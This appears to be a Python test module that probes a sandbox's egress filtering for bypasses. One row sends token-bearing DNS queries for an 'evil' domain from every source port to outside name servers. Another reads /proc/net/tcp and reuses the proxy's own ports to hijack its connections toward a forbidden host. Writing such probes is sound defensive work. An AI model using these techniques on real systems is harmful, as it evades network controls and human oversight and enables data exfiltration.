"""Rows that ride on what the policy has let through for others: the kernel's memory of a flow outlives the socket that made it."""

from __future__ import annotations

import contextlib
import socket
import time
from concurrent.futures import ThreadPoolExecutor

from rows_proxy import raw_hello, records, sni_extension
from tools import WORLD as W
from tools import Verdict, asked, connect, drain, family, question, row, shown, tcp, tls_try, token, tried, worst


@row("N83", "after")
def flows_of_the_resolver() -> Verdict:
    """Datagrams to the resolver's own name server, from each port that it may just have asked from."""
    names = [f"a{number}.usercontent.example" for number in range(150)]
    with ThreadPoolExecutor(16) as pool:
        list(pool.map(lambda name: asked("127.0.0.1", question(name), timeout=1.0), names))
    packet = question(f"{token('N83')}.{W['evil']}")
    sent = 0
    for address in W["dns"]:
        for port in range(1024, 65536):
            with contextlib.suppress(OSError), socket.socket(family(address), socket.SOCK_DGRAM) as there:
                there.bind(("", port))
                there.sendto(packet, (address, 53))
                sent += 1
    return "blocked", f"{sent} sent; the name server outside tells what came"


@row("W17", "after")
def names_after_that() -> Verdict:
    """The ports of the resolver have just been somebody else's: its own questions must not be taken for theirs, and go round in circles."""
    said = [asked("127.0.0.1", question(f"b{number}.{token('W17')}.usercontent.example"), timeout=3.0) for number in range(6)]
    return ("works" if said == ["code 0, 1 answers"] * 6 else "blocked"), str(said)


def sockets_to(address: str, port: int) -> list[tuple[int, int]]:
    """The local ports of connections to there, whoever has them, and their owners."""
    wanted = socket.inet_aton(address)[::-1].hex().upper() + f":{port:04X}"
    found = []
    with open("/proc/net/tcp", encoding="ascii") as stream:
        for line in stream.readlines()[1:]:
            words = line.split()
            if words[2] == wanted:
                found.append((int(words[1].rpartition(":")[2], 16), int(words[7])))
    return found


@row("N84", "after")
def flows_of_the_proxy() -> Verdict:
    """The proxy's own ports, while it has them, and after its connections have ended in one way or another."""
    target = W["cdn"][0]
    held = []
    for _number in range(6):
        there = connect(target, 443)
        there.sendall(records(raw_hello("x", sni_extension([W["api"].encode()]))))
        drain(there, 1.0, until=b"\x16", grace=0.05)
        held.append(there)
    for _number in range(6):
        tls_try(target, W["api"])
        with contextlib.suppress(OSError):
            tcp(target, 80, f"GET / HTTP/1.1\r\nHost: {W['api']}\r\n\r\n".encode(), 0.3)
    ports = [(port, number) for port in (443, 80) for number, _owner in sockets_to(target, port)]
    found = [steal(target, port, number) for port, number in ports]
    for there in held:
        # Without a farewell.
        with contextlib.suppress(OSError):
            there.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
        there.close()
    time.sleep(0.3)
    found += [steal(target, port, number) for port, number in ports]
    return worst([*found, ("blocked", f"{len(ports)} ports of the proxy, tried twice")])


def steal(target: str, port: int, number: int) -> Verdict:
    """A connection of our own with the addresses and ports of another."""
    return tried(f"from {number} to {port}", _steal, target, port, number)


def _steal(target: str, port: int, number: int) -> Verdict:
    other = W["other"].encode()
    data = records(raw_hello(token("N84"), sni_extension([other])))
    if port == 80:
        data = b"GET /" + token("N84").encode() + b" HTTP/1.1\r\nHost: " + other + b"\r\n\r\n"
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as there:
        there.settimeout(1.0)
        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            there.setsockopt(socket.SOL_SOCKET, option, 1)
        there.bind(("", number))
        there.connect((target, port))
        there.sendall(data)
        answer = drain(there, 0.6, until=b"\x16")
    through = answer[:1] == b"\x16" or b'"site": "other' in answer
    return ("bypass" if through else "blocked"), shown(answer[:30])
